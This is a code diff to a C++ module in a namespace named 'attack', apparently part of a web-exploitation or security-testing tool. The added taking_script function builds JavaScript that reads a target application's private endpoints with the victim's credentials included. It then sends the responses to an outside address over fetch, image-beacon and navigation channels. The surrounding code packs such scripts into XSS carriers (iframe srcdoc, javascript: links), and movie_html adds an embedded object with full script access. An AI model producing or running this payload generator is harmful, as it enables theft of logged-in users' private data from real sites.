@@ -1,5 +1,7 @@
 #include "core/attack/page_script.h"
 
+#include "core/attack/options.h"
+
 namespace parapet::attack {
 
 char const kAllInReach[] =
@@ -30,6 +32,15 @@ std::string fetch_and_send(std::string const& page, std::string const& address) 
            ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
            send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
            "});";
+}
+
+std::string taking_script(Target const& target, std::string const& address) {
+    std::string script;
+    for (Endpoint const* each : private_endpoints(target))
+        script += fetch_and_send(app_origin(target) + each->path, address);
+    return script + send_script(Channel::Fetch, address, kAllInReach) +
+           send_script(Channel::Image, address, kAllInReach) +
+           send_script(Channel::Navigation, address, kAllInReach);
 }
 
 std::string fetch_script(std::string_view method, std::string const& address, std::string_view type,
@@ -70,6 +81,11 @@ std::vector<std::string> script_carriers(std::string const& script) {
             "<iframe srcdoc=" + in_quotes("<script>" + script + "</script>") + "></iframe>",
             "<iframe src=" + in_quotes("javascript:" + script) + "></iframe>",
             "<a href=" + in_quotes("javascript:" + script) + ">Read more</a>"};
+}
+
+std::string movie_html(std::string const& address) {
+    return "<object type=\"" + std::string(kMovieType) + "\" data=" + in_quotes(address) +
+           "><param name=\"AllowScriptAccess\" value=\"always\"></object>";
 }
 
 }  // namespace parapet::attack
